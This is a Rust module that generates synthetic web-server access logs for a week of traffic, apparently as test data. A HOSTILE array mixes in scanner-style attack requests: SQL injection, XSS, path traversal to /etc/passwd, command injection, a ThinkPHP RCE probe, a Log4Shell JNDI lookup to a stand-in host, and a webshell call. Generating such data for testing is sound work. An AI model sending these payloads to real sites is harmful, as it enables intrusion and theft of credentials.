//! A week of a public site's access log in combined format.

use std::io::{self, Write};

use crate::draw::{Draw, MONTHS, START, address, civil};

/// Average bytes of a line; sets how fast time passes so that any size covers one week.
const LINE_BYTES: u64 = 250;
const WEEK: u64 = 7 * 86_400;
const SOURCES: u64 = 200_000;

const SECTIONS: &[&str] = &[
    "news",
    "notice",
    "department",
    "doctor",
    "guide",
    "service",
    "about",
    "culture",
    "science",
    "party",
];
const ASSETS: &[&str] = &[
    "/static/css/main.css",
    "/static/js/jquery-3.6.0.min.js",
    "/static/js/app.js",
    "/static/img/logo.png",
    "/static/img/banner-1.jpg",
    "/static/img/banner-2.jpg",
    "/favicon.ico",
    "/static/fonts/icon.woff2",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; V2{}A) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 MicroMessenger/8.0.48",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{} Safari/605.1.15",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html) {}",
    "Mozilla/5.0 (compatible; bingbot/2.{}; +http://www.bing.com/bingbot.htm)",
];
/// Inert test strings, as scanners send them.
pub(crate) const HOSTILE: &[&str] = &[
    "/index.php?id={}%27%20UNION%20SELECT%201,2,user(),4--%20-",
    "/news/list?cat=1%20AND%20{}=(SELECT%20{}%20FROM%20PG_SLEEP(5))",
    "/search?q=%3Cscript%3Ealert({})%3C/script%3E",
    "/download?file=../../../../etc/passwd&n={}",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh?{}",
    "/.env?{}",
    "/.git/config?{}",
    "/wp-login.php?{}",
    "/phpmyadmin/index.php?{}",
    "/actuator/env?{}",
    "/api/ping?host=127.0.0.1;cat%20/etc/passwd;{}",
    "/index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=md5&vars%5B1%5D%5B%5D={}",
    "/?x=$%7Bjndi:ldap://198.51.100.7/{}%7D",
    "/uploads/{}.php?cmd=id",
    "/item?sort=1%27%20OR%20%27{}%27=%27{}",
];

/// Writes whole lines until at least `bytes` are written.
///
/// # Errors
/// What `out` returns.
pub fn write(seed: u64, bytes: u64, out: &mut impl Write) -> io::Result<()> {
    let mut draw = Draw::new(seed);
    let lines = (bytes / LINE_BYTES).max(1);
    let mut line = Vec::with_capacity(1024);
    let (mut written, mut number) = (0, 0);
    while written < bytes {
        line.clear();
        let second = START + i64::try_from(number * WEEK / lines).unwrap_or(0);
        one(&mut draw, second, &mut line)?;
        out.write_all(&line)?;
        written += line.len() as u64;
        number += 1;
    }
    Ok(())
}

fn one(draw: &mut Draw, second: i64, line: &mut Vec<u8>) -> io::Result<()> {
    let (year, month, day, hour, minute, sec) = civil(second);
    let source = draw.skewed(SOURCES);
    let month = MONTHS.get(month).unwrap_or(&"Jan");
    write!(
        line,
        "{} - - [{day:02}/{month}/{year}:{hour:02}:{minute:02}:{sec:02} +0000] ",
        address(source)
    )?;
    if draw.per_mille(12) {
        let id = draw.below(100_000).to_string();
        let target = draw.pick(HOSTILE).replace("{}", &id);
        let status = draw.pick(&[404, 403, 400, 200, 500]);
        write!(line, "\"GET {target} HTTP/1.1\" {status} {} \"-\" ", draw.below(5_000))?;
    } else {
        ordinary(draw, line)?;
    }
    let agent = draw.pick(AGENTS).replace("{}", &draw.below(120).to_string());
    writeln!(line, "\"{agent}\"")
}

fn ordinary(draw: &mut Draw, line: &mut Vec<u8>) -> io::Result<()> {
    let section = *draw.pick(SECTIONS);
    let page = draw.skewed(5_000);
    let status = if draw.per_mille(25) {
        404
    } else if draw.per_mille(120) {
        304
    } else {
        200
    };
    let size = if status == 304 { 0 } else { 300 + draw.skewed(200_000) };
    match draw.below(10) {
        0..=4 => write!(line, "\"GET {} HTTP/1.1\" ", draw.pick(ASSETS))?,
        5..=6 => write!(line, "\"GET /{section}/{page}.html HTTP/1.1\" ")?,
        7 => write!(
            line,
            "\"GET /{section}/list?page={}&size=20&t={} HTTP/1.1\" ",
            page % 40,
            draw.below(1 << 40)
        )?,
        8 => write!(
            line,
            "\"GET /search?keyword=%E4%BD%93%E6%A3%80{page}&type={section} HTTP/1.1\" "
        )?,
        _ => write!(line, "\"POST /api/{section}/query HTTP/1.1\" ")?,
    }
    if draw.per_mille(300) {
        write!(line, "{status} {size} \"-\" ")
    } else {
        write!(line, "{status} {size} \"https://www.example.org/{section}/{}.html\" ", page / 3)
    }
}
